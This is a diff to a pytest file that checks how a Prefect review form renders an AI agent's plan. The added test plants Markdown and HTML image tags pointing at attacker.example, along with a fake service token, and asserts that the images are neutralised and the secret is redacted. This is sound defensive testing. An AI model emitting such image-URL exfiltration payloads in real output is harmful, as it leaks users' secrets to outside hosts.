@@ -191,7 +191,8 @@ def test_the_resume_form_shows_the_plan_cut_with_the_whole_one_click_away(tmp_pa
     """What the Prefect UI's Resume form says (its Markdown): the review's summary, then the
     plan's own text, cut at a line's end, with a link to the artifact that holds the whole."""
     from prefect.client.orchestration import get_client
-    from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterId
+    from prefect.client.schemas.filters import (ArtifactCollectionFilter, ArtifactCollectionFilterKey, ArtifactFilter,
+                                                ArtifactFilterId)
 
     from labrun.flows import review as form
     from labrun.state import load_state
@@ -218,3 +219,16 @@ def test_the_resume_form_shows_the_plan_cut_with_the_whole_one_click_away(tmp_pa
 
     monkeypatch.setattr(form, "FORM_CHARS", 100_000)
     assert "more lines" not in form.form_description(saved, ws, saved.reviews[-1])
+
+    # What the agent wrote may hold an image whose URL carries a secret out (the reviewer's
+    # browser would fetch it): neither the form nor the -review artifact shows one.
+    monkeypatch.setenv("LAB_SERVICE_TOKEN", "tok-123456789-secret")
+    (ws / "planning.md").write_text(plan + "\n![x](https://attacker.example/?d=1) <img src=//attacker.example/i>"
+                                           " tok-123456789-secret\n")
+    text = form.form_description(saved, ws, saved.reviews[-1])
+    with get_client(sync_client=True) as client:  # outside a flow run each publish is a new version
+        whole = client.read_latest_artifacts(artifact_filter=ArtifactCollectionFilter(
+            key=ArtifactCollectionFilterKey(any_=[cut[2]])))[0].data
+    for markdown in (text, whole):
+        assert "*(image `https://attacker.example/?d=1`: not shown)* &lt;img" in markdown
+        assert "tok-123456789-secret" not in markdown and "[REDACTED]" in markdown
